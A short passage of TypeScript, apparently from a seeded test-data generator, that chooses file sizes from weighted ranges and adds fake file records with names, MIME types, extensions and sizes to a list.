      ? rng.int(ctx.size === 'large' ? 8 * MB : 4 * MB, ctx.size === 'large' ? 24 * MB : 8 * MB)
      : bucket < 0.85
        ? rng.logInt(200, 150_000)
        : bucket < 0.97
          ? rng.int(150_000, 800_000)
          : rng.int(800_000, 2 * MB);
    const at = times[files.length + 1] as number;
    push(ownerType, null, { name: fileName(rng, kind.ext, at), mime: kind.mime, ext: kind.ext, size });
  }
  return files;
}
